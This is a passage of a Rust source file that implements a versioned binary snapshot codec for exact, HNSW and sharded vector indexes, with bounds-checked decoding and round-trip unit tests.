    ExactIndex, HnswIndex, HnswParams, ShardBackend, ShardedIndex, ShardedParams, VectorIndex,
};
use linalg::quant::{Quantization, QuantizedMatrix};
use linalg::Matrix;
use serde::{Deserialize, Serialize};

/// Why decoding a persisted index failed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PersistError {
    /// Input ended before the frame was complete.
    Truncated,
    /// The leading magic bytes are not an index snapshot's.
    BadMagic,
    /// The frame version is newer than this build understands.
    UnsupportedVersion(u32),
    /// An enum tag byte had no meaning.
    BadTag(u8),
    /// A structural invariant failed (e.g. a link id out of range).
    Corrupt(&'static str),
}

impl std::fmt::Display for PersistError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            PersistError::Truncated => write!(f, "snapshot truncated"),
            PersistError::BadMagic => write!(f, "not an index snapshot (bad magic)"),
            PersistError::UnsupportedVersion(v) => {
                write!(f, "snapshot version {v} not supported")
            }
            PersistError::BadTag(t) => write!(f, "unknown snapshot tag {t}"),
            PersistError::Corrupt(what) => write!(f, "snapshot corrupt: {what}"),
        }
    }
}

impl std::error::Error for PersistError {}

/// Little-endian binary frame writer (the workspace's stand-in for a
/// serde serializer; see the module docs).
#[derive(Debug, Default)]
pub struct ByteWriter {
    buf: Vec<u8>,
}

impl ByteWriter {
    /// An empty frame.
    pub fn new() -> Self {
        ByteWriter::default()
    }

    /// The encoded bytes.
    pub fn into_bytes(self) -> Vec<u8> {
        self.buf
    }

    /// Appends one byte.
    pub fn put_u8(&mut self, v: u8) {
        self.buf.push(v);
    }

    /// Appends a little-endian `u16`.
    pub fn put_u16(&mut self, v: u16) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Appends a little-endian `u32`.
    pub fn put_u32(&mut self, v: u32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Appends a little-endian `u64`.
    pub fn put_u64(&mut self, v: u64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Appends a `usize` as `u64` (stable across word sizes).
    pub fn put_usize(&mut self, v: usize) {
        self.put_u64(v as u64);
    }

    /// Appends a little-endian `f32` (bit pattern preserved exactly).
    pub fn put_f32(&mut self, v: f32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Appends a length-prefixed `f32` slice.
    pub fn put_f32s(&mut self, vs: &[f32]) {
        self.put_usize(vs.len());
        for &v in vs {
            self.put_f32(v);
        }
    }

    /// Appends a length-prefixed id slice.
    pub fn put_usizes(&mut self, vs: &[usize]) {
        self.put_usize(vs.len());
        for &v in vs {
            self.put_usize(v);
        }
    }

    /// Appends a length-prefixed bool slice (one byte each).
    pub fn put_bools(&mut self, vs: &[bool]) {
        self.put_usize(vs.len());
        for &v in vs {
            self.put_u8(v as u8);
        }
    }

    /// Appends a length-prefixed raw byte slice.
    pub fn put_bytes(&mut self, vs: &[u8]) {
        self.put_usize(vs.len());
        self.buf.extend_from_slice(vs);
    }

    /// Appends a length-prefixed UTF-8 string.
    pub fn put_str(&mut self, s: &str) {
        self.put_bytes(s.as_bytes());
    }

    /// Appends a matrix: shape, then the row-major buffer.
    pub fn put_matrix(&mut self, m: &Matrix) {
        self.put_usize(m.rows());
        self.put_usize(m.cols());
        for &v in m.as_slice() {
            self.put_f32(v);
        }
    }
}

/// Reader over a [`ByteWriter`] frame; every getter checks bounds and
/// reports [`PersistError::Truncated`] instead of panicking on foreign
/// bytes.
#[derive(Debug)]
pub struct ByteReader<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> ByteReader<'a> {
    /// A reader positioned at the start of `buf`.
    pub fn new(buf: &'a [u8]) -> Self {
        ByteReader { buf, pos: 0 }
    }

    /// Bytes not yet consumed.
    pub fn remaining(&self) -> usize {
        self.buf.len() - self.pos
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], PersistError> {
        if self.remaining() < n {
            return Err(PersistError::Truncated);
        }
        let out = &self.buf[self.pos..self.pos + n];
        self.pos += n;
        Ok(out)
    }

    /// Reads one byte.
    pub fn get_u8(&mut self) -> Result<u8, PersistError> {
        Ok(self.take(1)?[0])
    }

    /// Reads a little-endian `u16`.
    pub fn get_u16(&mut self) -> Result<u16, PersistError> {
        Ok(u16::from_le_bytes(self.take(2)?.try_into().unwrap()))
    }

    /// Reads a little-endian `u32`.
    pub fn get_u32(&mut self) -> Result<u32, PersistError> {
        Ok(u32::from_le_bytes(self.take(4)?.try_into().unwrap()))
    }

    /// Reads a little-endian `u64`.
    pub fn get_u64(&mut self) -> Result<u64, PersistError> {
        Ok(u64::from_le_bytes(self.take(8)?.try_into().unwrap()))
    }

    /// Reads a `usize` persisted as `u64`.
    pub fn get_usize(&mut self) -> Result<usize, PersistError> {
        let v = self.get_u64()?;
        usize::try_from(v).map_err(|_| PersistError::Corrupt("usize overflow"))
    }

    /// Reads a little-endian `f32`.
    pub fn get_f32(&mut self) -> Result<f32, PersistError> {
        Ok(f32::from_le_bytes(self.take(4)?.try_into().unwrap()))
    }

    /// Reads a length-prefixed `f32` slice.
    pub fn get_f32s(&mut self) -> Result<Vec<f32>, PersistError> {
        let n = self.checked_len(4)?;
        let mut out = Vec::with_capacity(n);
        for _ in 0..n {
            out.push(self.get_f32()?);
        }
        Ok(out)
    }

    /// Reads a length-prefixed id slice.
    pub fn get_usizes(&mut self) -> Result<Vec<usize>, PersistError> {
        let n = self.checked_len(8)?;
        let mut out = Vec::with_capacity(n);
        for _ in 0..n {
            out.push(self.get_usize()?);
        }
        Ok(out)
    }

    /// Reads a length-prefixed bool slice.
    pub fn get_bools(&mut self) -> Result<Vec<bool>, PersistError> {
        let n = self.checked_len(1)?;
        let mut out = Vec::with_capacity(n);
        for _ in 0..n {
            out.push(self.get_u8()? != 0);
        }
        Ok(out)
    }

    /// Reads a length-prefixed raw byte slice.
    pub fn get_bytes(&mut self) -> Result<Vec<u8>, PersistError> {
        let n = self.checked_len(1)?;
        Ok(self.take(n)?.to_vec())
    }

    /// Reads a length-prefixed UTF-8 string; non-UTF-8 bytes are a
    /// typed error, never a panic.
    pub fn get_str(&mut self) -> Result<String, PersistError> {
        String::from_utf8(self.get_bytes()?).map_err(|_| PersistError::Corrupt("invalid utf-8"))
    }

    /// Reads a matrix written by [`ByteWriter::put_matrix`].
    pub fn get_matrix(&mut self) -> Result<Matrix, PersistError> {
        let rows = self.get_usize()?;
        let cols = self.get_usize()?;
        let n = rows
            .checked_mul(cols)
            .ok_or(PersistError::Corrupt("matrix shape overflow"))?;
        // Saturate: a corrupt shape must fail the bounds check, not
        // wrap it and attempt an absurd allocation.
        if self.remaining() < n.saturating_mul(4) {
            return Err(PersistError::Truncated);
        }
        let mut data = Vec::with_capacity(n);
        for _ in 0..n {
            data.push(self.get_f32()?);
        }
        Ok(Matrix::from_vec(rows, cols, data))
    }

    /// Reads a length prefix, rejecting lengths the remaining input
    /// cannot possibly hold (`elem_size` bytes per element) so corrupt
    /// prefixes fail fast instead of attempting huge allocations.
    fn checked_len(&mut self, elem_size: usize) -> Result<usize, PersistError> {
        let n = self.get_usize()?;
        if n.saturating_mul(elem_size) > self.remaining() {
            return Err(PersistError::Truncated);
        }
        Ok(n)
    }
}

/// Leading bytes of a standalone index snapshot frame.
const MAGIC: &[u8; 4] = b"CIDX";
/// The original frame version: f32-only payloads. Still written for
/// all-f32 snapshots, byte for byte what the pre-quantization writer
/// produced — so old readers keep reading new f32 frames and the
/// backward-compat fixture in `tests/persist_codec.rs` stays honest.
const VERSION_V1: u32 = 1;
/// The quantized-payload version: frames may carry the `*_QUANT` tags
/// below (f16/i8 candidate storage + per-row scales). Readers accept
/// both versions; anything newer is a typed
/// [`PersistError::UnsupportedVersion`].
const VERSION_V2: u32 = 2;

const TAG_EXACT: u8 = 0;
const TAG_HNSW: u8 = 1;
const TAG_SHARDED: u8 = 2;
/// V2 tags: same payload layout as their V1 counterparts except the
/// candidate matrix is a quantized-matrix frame (format byte, codes,
/// and per-row scales) instead of a plain f32 matrix. F32 snapshots
/// keep the V1 tags so their bytes never change.
const TAG_EXACT_QUANT: u8 = 3;
const TAG_HNSW_QUANT: u8 = 4;
/// V2 sharded manifest: a leading [`Quantization`] byte (so an
/// all-empty quantized partition still restores with the right
/// format), then the V1 manifest layout with per-shard nested frames.
const TAG_SHARDED_QUANT: u8 = 5;

const TAG_BACKEND_EXACT: u8 = 0;
const TAG_BACKEND_HNSW: u8 = 1;

const QTAG_F16: u8 = 1;
const QTAG_I8: u8 = 2;

/// Shard counts above this are rejected as corrupt — far beyond any
/// deployment this repo targets, tight enough to stop a corrupt
/// prefix from driving huge allocations.
const MAX_SHARDS: usize = 4096;

/// Appends the HNSW parameter block (shared by standalone HNSW frames
/// and the sharded manifest's backend field).
fn write_hnsw_params(w: &mut ByteWriter, params: &HnswParams) {
    w.put_usize(params.m);
    w.put_usize(params.ef_construction);
    w.put_usize(params.ef_search);
    w.put_u64(params.seed);
    w.put_f32(params.compact_ratio);
}

/// Reads a [`write_hnsw_params`] block, validating the invariants the
/// live index asserts.
fn read_hnsw_params(r: &mut ByteReader<'_>) -> Result<HnswParams, PersistError> {
    let params = HnswParams {
        m: r.get_usize()?,
        ef_construction: r.get_usize()?,
        ef_search: r.get_usize()?,
        seed: r.get_u64()?,
        compact_ratio: r.get_f32()?,
    };
    if params.m < 2 {
        return Err(PersistError::Corrupt("m < 2"));
    }
    Ok(params)
}

/// Appends one [`Quantization`] byte.
fn write_quant(w: &mut ByteWriter, quant: Quantization) {
    w.put_u8(match quant {
        Quantization::F32 => 0,
        Quantization::F16 => QTAG_F16,
        Quantization::I8 => QTAG_I8,
    });
}

/// Reads a [`write_quant`] byte.
fn read_quant(r: &mut ByteReader<'_>) -> Result<Quantization, PersistError> {
    match r.get_u8()? {
        0 => Ok(Quantization::F32),
        QTAG_F16 => Ok(Quantization::F16),
        QTAG_I8 => Ok(Quantization::I8),
        tag => Err(PersistError::BadTag(tag)),
    }
}

/// Appends a quantized candidate matrix: format byte, shape, codes
/// (and per-row scales for i8). The `F32` arm reuses the plain matrix
/// layout after its format byte.
fn write_quant_matrix(w: &mut ByteWriter, m: &QuantizedMatrix) {
    write_quant(w, m.quantization());
    match m {
        QuantizedMatrix::F32(inner) => w.put_matrix(inner),
        QuantizedMatrix::F16 { rows, cols, data } => {
            w.put_usize(*rows);
            w.put_usize(*cols);
            for &h in data {
                w.put_u16(h);
            }
        }
        QuantizedMatrix::I8 {
            rows,
            cols,
            data,
            scales,
        } => {
            w.put_usize(*rows);
            w.put_usize(*cols);
            for &c in data {
                w.put_u8(c as u8);
            }
            w.put_f32s(scales);
        }
    }
}

/// Reads a [`write_quant_matrix`] frame, bounds-checking shapes before
/// any allocation so corrupt prefixes fail fast.
fn read_quant_matrix(r: &mut ByteReader<'_>) -> Result<QuantizedMatrix, PersistError> {
    let quant = read_quant(r)?;
    if quant == Quantization::F32 {
        return Ok(QuantizedMatrix::F32(r.get_matrix()?));
    }
    let rows = r.get_usize()?;
    let cols = r.get_usize()?;
    let n = rows
        .checked_mul(cols)
        .ok_or(PersistError::Corrupt("matrix shape overflow"))?;
    if r.remaining() < n.saturating_mul(quant.bytes_per_element()) {
        return Err(PersistError::Truncated);
    }
    match quant {
        Quantization::F16 => {
            let mut data = Vec::with_capacity(n);
            for _ in 0..n {
                data.push(r.get_u16()?);
            }
            Ok(QuantizedMatrix::F16 { rows, cols, data })
        }
        Quantization::I8 => {
            let mut data = Vec::with_capacity(n);
            for _ in 0..n {
                data.push(r.get_u8()? as i8);
            }
            let scales = r.get_f32s()?;
            if scales.len() != rows {
                return Err(PersistError::Corrupt("scale count != row count"));
            }
            Ok(QuantizedMatrix::I8 {
                rows,
                cols,
                data,
                scales,
            })
        }
        Quantization::F32 => unreachable!("handled above"),
    }
}

/// The serializable state of a built [`VectorIndex`] — everything a
/// cold-starting service needs to answer queries (and keep inserting,
/// for HNSW) without a construction pass.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub enum IndexSnapshot {
    /// An [`ExactIndex`]: candidate storage plus cached norms.
    Exact {
        /// The indexed candidate storage (any [`Quantization`]).
        data: QuantizedMatrix,
        /// Build-time candidate norms (always original-f32 norms).
        norms: Vec<f32>,
    },
    /// A [`ShardedIndex`]: a manifest (partition shape + per-shard
    /// global-id maps) plus one nested frame per shard. Restoring
    /// restores each shard in place — HNSW shards adopt their saved
    /// graphs, so a sharded cold start is as construction-free as an
    /// unsharded one.
    Sharded {
        /// Partition shape (shard count, partitioner seed, backend).
        params: ShardedParams,
        /// Candidate storage format of the partition (carried in the
        /// manifest so even all-empty shards restore with it).
        quant: Quantization,
        /// Embedding dimensionality (shards may be empty, so it cannot
        /// always be derived from them).
        dim: usize,
        /// One nested snapshot per shard.
        shards: Vec<IndexSnapshot>,
        /// `globals[s][local] = global id` for each shard.
        globals: Vec<Vec<usize>>,
    },
    /// An [`HnswIndex`]: candidates, norms, and the whole graph.
    Hnsw {
        /// The indexed candidate storage (any [`Quantization`]).
        data: QuantizedMatrix,
        /// Build-time candidate norms (always original-f32 norms).
        norms: Vec<f32>,
        /// Build/search parameters (including the RNG seed).
        params: HnswParams,
        /// `links[node][level]` adjacency lists.
        links: Vec<Vec<Vec<usize>>>,
        /// Search entry node.
        entry: usize,
        /// Highest populated level.
        top_level: usize,
        /// Tombstone flags (removed-but-not-compacted nodes).
        tombstone: Vec<bool>,
        /// Level-RNG draws consumed — replayed on restore so later
        /// inserts continue the same deterministic stream.
        draws: u64,
    },
}

impl IndexSnapshot {
    /// Captures the state of a boxed index. Returns `None` for backend
    /// types this module does not know how to serialize.
    pub fn capture(index: &dyn VectorIndex) -> Option<IndexSnapshot> {
        if let Some(exact) = index.as_any().downcast_ref::<ExactIndex>() {
            let (data, norms) = exact.to_parts();
            return Some(IndexSnapshot::Exact {
                data: data.clone(),
                norms: norms.to_vec(),
            });
        }
        if let Some(hnsw) = index.as_any().downcast_ref::<HnswIndex>() {
            let (data, norms, params, links, entry, top_level, tombstone, draws) = hnsw.to_parts();
            return Some(IndexSnapshot::Hnsw {
                data: data.clone(),
                norms: norms.to_vec(),
                params,
                links: links.to_vec(),
                entry,
                top_level,
                tombstone: tombstone.to_vec(),
                draws,
            });
        }
        if let Some(sharded) = index.as_any().downcast_ref::<ShardedIndex>() {
            let mut shards = Vec::with_capacity(sharded.shard_count());
            for shard in sharded.shards() {
                shards.push(IndexSnapshot::capture(shard.as_ref())?);
            }
            return Some(IndexSnapshot::Sharded {
                params: *sharded.params(),
                quant: sharded.quantization(),
                dim: sharded.dim(),
                shards,
                globals: sharded.globals().to_vec(),
            });
        }
        None
    }

    /// The candidate storage format of the snapshot.
    pub fn quantization(&self) -> Quantization {
        match self {
            IndexSnapshot::Exact { data, .. } | IndexSnapshot::Hnsw { data, .. } => {
                data.quantization()
            }
            IndexSnapshot::Sharded { quant, .. } => *quant,
        }
    }

    /// Whether any payload of this snapshot is quantized — i.e.
    /// whether encoding it emits V2-only tags a pre-quantization
    /// reader would not understand. Decides the frame version
    /// [`IndexSnapshot::to_bytes`] writes, and composite frames
    /// embedding detector states (`serve::ServiceSnapshot`) must make
    /// the same call for the same reason.
    pub fn has_quantized_payload(&self) -> bool {
        match self {
            IndexSnapshot::Exact { data, .. } | IndexSnapshot::Hnsw { data, .. } => {
                data.quantization() != Quantization::F32
            }
            IndexSnapshot::Sharded { quant, shards, .. } => {
                *quant != Quantization::F32
                    || shards.iter().any(IndexSnapshot::has_quantized_payload)
            }
        }
    }

    /// Rebuilds a live index from the snapshot. For HNSW the saved
    /// graph is adopted directly — **no** construction pass runs
    /// ([`crate::construction_passes`] is unchanged).
    pub fn restore(self) -> Box<dyn VectorIndex> {
        match self {
            IndexSnapshot::Exact { data, norms } => {
                Box::new(ExactIndex::from_quantized(data, norms))
            }
            IndexSnapshot::Hnsw {
                data,
                norms,
                params,
                links,
                entry,
                top_level,
                tombstone,
                draws,
            } => Box::new(HnswIndex::from_parts(
                data, norms, params, links, entry, top_level, tombstone, draws,
            )),
            IndexSnapshot::Sharded {
                params,
                quant,
                dim,
                shards,
                globals,
            } => Box::new(ShardedIndex::from_parts(
                shards.into_iter().map(IndexSnapshot::restore).collect(),
                globals,
                params,
                quant,
                dim,
            )),
        }
    }

    /// Short stable backend name (`"exact"` / `"hnsw"` /
    /// `"sharded-exact"` / `"sharded-hnsw"`).
    pub fn backend(&self) -> &'static str {
        match self {
            IndexSnapshot::Exact { .. } => "exact",
            IndexSnapshot::Hnsw { .. } => "hnsw",
            IndexSnapshot::Sharded { params, .. } => match params.backend {
                ShardBackend::Exact => "sharded-exact",
                ShardBackend::Hnsw(_) => "sharded-hnsw",
            },
        }
    }

    /// Candidate-row count of the snapshot (global rows for sharded
    /// frames).
    pub fn rows(&self) -> usize {
        match self {
            IndexSnapshot::Exact { data, .. } | IndexSnapshot::Hnsw { data, .. } => data.rows(),
            IndexSnapshot::Sharded { globals, .. } => globals.iter().map(Vec::len).sum(),
        }
    }

    /// Embedding dimensionality of the snapshot (even empty matrices
    /// carry their column count).
    pub fn dim(&self) -> usize {
        match self {
            IndexSnapshot::Exact { data, .. } | IndexSnapshot::Hnsw { data, .. } => data.cols(),
            IndexSnapshot::Sharded { dim, .. } => *dim,
        }
    }

    /// Appends the snapshot to an open frame (tag byte + payload; no
    /// magic — composite snapshots such as the serving layer's add
    /// their own framing).
    pub fn write(&self, w: &mut ByteWriter) {
        match self {
            IndexSnapshot::Exact { data, norms } => {
                // F32 keeps the V1 tag and byte layout exactly — an
                // unquantized snapshot's bytes never changed across
                // the version bump (the back-compat fixture pins it).
                match data {
                    QuantizedMatrix::F32(inner) => {
                        w.put_u8(TAG_EXACT);
                        w.put_matrix(inner);
                    }
                    quantized => {
                        w.put_u8(TAG_EXACT_QUANT);
                        write_quant_matrix(w, quantized);
                    }
                }
                w.put_f32s(norms);
            }
            IndexSnapshot::Hnsw {
                data,
                norms,
                params,
                links,
                entry,
                top_level,
                tombstone,
                draws,
            } => {
                match data {
                    QuantizedMatrix::F32(inner) => {
                        w.put_u8(TAG_HNSW);
                        w.put_matrix(inner);
                    }
                    quantized => {
                        w.put_u8(TAG_HNSW_QUANT);
                        write_quant_matrix(w, quantized);
                    }
                }
                w.put_f32s(norms);
                write_hnsw_params(w, params);
                w.put_usize(links.len());
                for levels in links {
                    w.put_usize(levels.len());
                    for nbs in levels {
                        w.put_usizes(nbs);
                    }
                }
                w.put_usize(*entry);
                w.put_usize(*top_level);
                w.put_bools(tombstone);
                w.put_u64(*draws);
            }
            IndexSnapshot::Sharded {
                params,
                quant,
                dim,
                shards,
                globals,
            } => {
                if *quant == Quantization::F32 {
                    w.put_u8(TAG_SHARDED);
                } else {
                    w.put_u8(TAG_SHARDED_QUANT);
                    write_quant(w, *quant);
                }
                w.put_usize(params.shards);
                w.put_u64(params.seed);
                match params.backend {
                    ShardBackend::Exact => w.put_u8(TAG_BACKEND_EXACT),
                    ShardBackend::Hnsw(p) => {
                        w.put_u8(TAG_BACKEND_HNSW);
                        write_hnsw_params(w, &p);
                    }
                }
                w.put_usize(*dim);
                for (shard, map) in shards.iter().zip(globals) {
                    w.put_usizes(map);
                    shard.write(w);
                }
            }
        }
    }

    /// Reads a snapshot written by [`IndexSnapshot::write`],
    /// validating structural invariants (shape agreement, link ids in
    /// range) so a corrupt frame errors instead of panicking later.
    pub fn read(r: &mut ByteReader<'_>) -> Result<IndexSnapshot, PersistError> {
        match r.get_u8()? {
            tag @ (TAG_EXACT | TAG_EXACT_QUANT) => {
                let data = if tag == TAG_EXACT {
                    QuantizedMatrix::F32(r.get_matrix()?)
                } else {
                    read_quant_matrix(r)?
                };
                let norms = r.get_f32s()?;
                if norms.len() != data.rows() {
                    return Err(PersistError::Corrupt("norm count != row count"));
                }
                Ok(IndexSnapshot::Exact { data, norms })
            }
            tag @ (TAG_HNSW | TAG_HNSW_QUANT) => {
                let data = if tag == TAG_HNSW {
                    QuantizedMatrix::F32(r.get_matrix()?)
                } else {
                    read_quant_matrix(r)?
                };
                let norms = r.get_f32s()?;
                let params = read_hnsw_params(r)?;
                let n = data.rows();
                if norms.len() != n {
                    return Err(PersistError::Corrupt("norm count != row count"));
                }
                let node_count = r.get_usize()?;
                if node_count != n {
                    return Err(PersistError::Corrupt("link count != row count"));
                }
                let mut links = Vec::with_capacity(node_count);
                for _ in 0..node_count {
                    let level_count = r.get_usize()?;
                    if level_count > 64 {
                        return Err(PersistError::Corrupt("absurd level count"));
                    }
                    let mut levels = Vec::with_capacity(level_count);
                    for _ in 0..level_count {
                        let nbs = r.get_usizes()?;
                        if nbs.iter().any(|&id| id >= n) {
                            return Err(PersistError::Corrupt("link id out of range"));
                        }
                        levels.push(nbs);
                    }
                    links.push(levels);
                }
                let entry = r.get_usize()?;
                if n > 0 && entry >= n {
                    return Err(PersistError::Corrupt("entry out of range"));
                }
                let top_level = r.get_usize()?;
                if top_level > 64 {
                    return Err(PersistError::Corrupt("absurd top level"));
                }
                // Traversal indexes `links[node][level]` for every
                // neighbour it follows, so the frame must prove each
                // listed neighbour actually participates in that level
                // (and the entry in the top level) — otherwise a
                // corrupt graph would decode fine and panic mid-query.
                if n > 0 && links[entry].len() <= top_level {
                    return Err(PersistError::Corrupt("entry missing from top level"));
                }
                for levels in &links {
                    for (l, nbs) in levels.iter().enumerate() {
                        if nbs.iter().any(|&nb| links[nb].len() <= l) {
                            return Err(PersistError::Corrupt("link to node absent at level"));
                        }
                    }
                }
                let tombstone = r.get_bools()?;
                if tombstone.len() != n {
                    return Err(PersistError::Corrupt("tombstone count != row count"));
                }
                let draws = r.get_u64()?;
                // The level RNG is replayed `draws` samples forward on
                // restore (cheap per sample, linear in lifetime
                // inserts + compaction rebuilds); bound it so a
                // corrupt counter can't turn a cold start into an
                // effectively infinite loop.
                if draws > 1 << 32 {
                    return Err(PersistError::Corrupt("absurd draw count"));
                }
                if draws < n as u64 {
                    return Err(PersistError::Corrupt("fewer draws than nodes"));
                }
                Ok(IndexSnapshot::Hnsw {
                    data,
                    norms,
                    params,
                    links,
                    entry,
                    top_level,
                    tombstone,
                    draws,
                })
            }
            tag @ (TAG_SHARDED | TAG_SHARDED_QUANT) => {
                let quant = if tag == TAG_SHARDED {
                    Quantization::F32
                } else {
                    read_quant(r)?
                };
                let shard_count = r.get_usize()?;
                if shard_count == 0 || shard_count > MAX_SHARDS {
                    return Err(PersistError::Corrupt("absurd shard count"));
                }
                let seed = r.get_u64()?;
                let backend = match r.get_u8()? {
                    TAG_BACKEND_EXACT => ShardBackend::Exact,
                    TAG_BACKEND_HNSW => ShardBackend::Hnsw(read_hnsw_params(r)?),
                    tag => return Err(PersistError::BadTag(tag)),
                };
                let dim = r.get_usize()?;
                let mut shards = Vec::with_capacity(shard_count);
                let mut globals = Vec::with_capacity(shard_count);
                for _ in 0..shard_count {
                    let map = r.get_usizes()?;
                    let shard = IndexSnapshot::read(r)?;
                    if matches!(shard, IndexSnapshot::Sharded { .. }) {
                        return Err(PersistError::Corrupt("nested sharded frame"));
                    }
                    if shard.rows() != map.len() {
                        return Err(PersistError::Corrupt("id map length != shard rows"));
                    }
                    // The manifest dim is what the restored index
                    // asserts queries against; a shard frame of
                    // another width would decode fine and panic at
                    // the first query instead.
                    if shard.dim() != dim {
                        return Err(PersistError::Corrupt("shard dim != manifest dim"));
                    }
                    if !map.windows(2).all(|w| w[0] < w[1]) {
                        return Err(PersistError::Corrupt("per-shard ids not ascending"));
                    }
                    shards.push(shard);
                    globals.push(map);
                }
                // The maps must densely cover 0..total: `ShardedIndex`
                // answers queries by indexing them, so a hole or a
                // duplicate would decode fine and misattribute (or
                // panic on) candidates mid-query.
                let total: usize = globals.iter().map(Vec::len).sum();
                let mut seen = vec![false; total];
                for map in &globals {
                    for &g in map {
                        if g >= total || seen[g] {
                            return Err(PersistError::Corrupt("id maps not a dense cover"));
                        }
                        seen[g] = true;
                    }
                }
                Ok(IndexSnapshot::Sharded {
                    params: ShardedParams {
                        shards: shard_count,
                        seed,
                        backend,
                    },
                    quant,
                    shards,
                    globals,
                    dim,
                })
            }
            tag => Err(PersistError::BadTag(tag)),
        }
    }

    /// Standalone encoding: magic + version + [`IndexSnapshot::write`].
    /// All-f32 snapshots still write version 1 — byte-identical to the
    /// pre-quantization writer — while any quantized payload bumps the
    /// frame to version 2.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = ByteWriter::new();
        w.buf.extend_from_slice(MAGIC);
        w.put_u32(if self.has_quantized_payload() {
            VERSION_V2
        } else {
            VERSION_V1
        });
        self.write(&mut w);
        w.into_bytes()
    }

    /// Decodes a standalone [`IndexSnapshot::to_bytes`] frame.
    /// Version negotiation: versions 1 (pre-quantization, f32-only)
    /// and 2 (quantized payload tags) both decode; unknown future
    /// versions are a typed [`PersistError::UnsupportedVersion`].
    pub fn from_bytes(bytes: &[u8]) -> Result<IndexSnapshot, PersistError> {
        let mut r = ByteReader::new(bytes);
        if r.take(4)? != MAGIC {
            return Err(PersistError::BadMagic);
        }
        let version = r.get_u32()?;
        if !(VERSION_V1..=VERSION_V2).contains(&version) {
            return Err(PersistError::UnsupportedVersion(version));
        }
        IndexSnapshot::read(&mut r)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::IndexConfig;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn exact_round_trip_is_bit_identical() {
        let mut rng = StdRng::seed_from_u64(41);
        let data = randn(&mut rng, 50, 7, 1.0);
        let idx = ExactIndex::build(data.clone());
        let snap = IndexSnapshot::capture(&idx).expect("exact is serializable");
        let restored = IndexSnapshot::from_bytes(&snap.to_bytes())
            .expect("round trip decodes")
            .restore();
        for r in (0..50).step_by(7) {
            assert_eq!(idx.query(data.row(r), 3), restored.query(data.row(r), 3));
        }
    }

    #[test]
    fn hnsw_round_trip_preserves_graph_and_skips_construction() {
        let mut rng = StdRng::seed_from_u64(42);
        let data = randn(&mut rng, 150, 8, 1.0);
        let idx = HnswIndex::build(data.clone(), HnswParams::default());
        let bytes = IndexSnapshot::capture(&idx).unwrap().to_bytes();
        let passes = crate::construction_passes();
        let restored = IndexSnapshot::from_bytes(&bytes).unwrap().restore();
        assert_eq!(
            crate::construction_passes(),
            passes,
            "restore must not run a construction pass"
        );
        let hnsw = restored
            .as_any()
            .downcast_ref::<HnswIndex>()
            .expect("restores as hnsw");
        assert_eq!(hnsw.links(), idx.links(), "graph must match node for node");
        for r in (0..150).step_by(11) {
            assert_eq!(idx.query(data.row(r), 5), restored.query(data.row(r), 5));
        }
    }

    #[test]
    fn restored_hnsw_continues_the_insert_stream() {
        // save → load → insert must equal never-saved → insert: the
        // RNG replay puts the restored index at the same stream point.
        let mut rng = StdRng::seed_from_u64(43);
        let data = randn(&mut rng, 90, 6, 1.0);
        let extra = randn(&mut rng, 10, 6, 1.0);
        let mut live = HnswIndex::build(data.clone(), HnswParams::default());
        let bytes = IndexSnapshot::capture(&live).unwrap().to_bytes();
        let mut restored = IndexSnapshot::from_bytes(&bytes).unwrap().restore();
        for r in 0..extra.rows() {
            live.insert(extra.row(r));
            restored.insert(extra.row(r));
        }
        let hnsw = restored.as_any().downcast_ref::<HnswIndex>().unwrap();
        assert_eq!(hnsw.links(), live.links());
    }

    #[test]
    fn sharded_round_trip_preserves_merged_results_and_skips_construction() {
        let mut rng = StdRng::seed_from_u64(45);
        let data = randn(&mut rng, 120, 8, 1.0);
        for config in [
            IndexConfig::Exact.with_shards(4),
            IndexConfig::hnsw().with_shards(4),
        ] {
            let mut idx = config.build(data.clone());
            let bytes = IndexSnapshot::capture(idx.as_ref()).unwrap().to_bytes();
            let passes = crate::construction_passes();
            let mut restored = IndexSnapshot::from_bytes(&bytes).unwrap().restore();
            assert_eq!(
                crate::construction_passes(),
                passes,
                "{}: restore must not rebuild any shard",
                config.name()
            );
            for r in (0..120).step_by(13) {
                assert_eq!(
                    idx.query(data.row(r), 5),
                    restored.query(data.row(r), 5),
                    "{}",
                    config.name()
                );
            }
            // The restored partition continues the insert stream
            // identically: same shard routing, same per-shard RNG
            // replay point.
            let extra = randn(&mut rng, 6, 8, 1.0);
            for r in 0..extra.rows() {
                assert_eq!(idx.insert(extra.row(r)), restored.insert(extra.row(r)));
            }
            for r in 0..extra.rows() {
                assert_eq!(
                    idx.query(extra.row(r), 3),
                    restored.query(extra.row(r), 3),
                    "{}",
                    config.name()
                );
            }
        }
    }

    #[test]
    fn quantized_round_trip_preserves_format_scales_and_answers() {
        let mut rng = StdRng::seed_from_u64(46);
        let data = randn(&mut rng, 40, 6, 1.0);
        for quant in [Quantization::F16, Quantization::I8] {
            for config in [
                IndexConfig::Exact.with_quant(quant),
                IndexConfig::hnsw().with_quant(quant),
                IndexConfig::hnsw().with_quant(quant).with_shards(3),
            ] {
                let idx = config.build(data.clone());
                let snap = IndexSnapshot::capture(idx.as_ref()).expect("capturable");
                assert_eq!(snap.quantization(), quant, "{}", config.name());
                let restored = IndexSnapshot::from_bytes(&snap.to_bytes())
                    .expect("quantized frame decodes")
                    .restore();
                assert_eq!(restored.quantization(), quant, "{}", config.name());
                for r in (0..40).step_by(7) {
                    assert_eq!(
                        idx.query(data.row(r), 3),
                        restored.query(data.row(r), 3),
                        "{}",
                        config.name()
                    );
                }
            }
        }
    }

    #[test]
    fn empty_quantized_sharded_manifest_keeps_its_format() {
        // An all-empty quantized partition restores with its format
        // intact (the manifest carries it), so the first insert after
        // a cold start quantizes like the never-saved twin would.
        let idx = IndexConfig::Exact
            .with_quant(Quantization::I8)
            .with_shards(3)
            .build(Matrix::zeros(0, 4));
        let bytes = IndexSnapshot::capture(idx.as_ref()).unwrap().to_bytes();
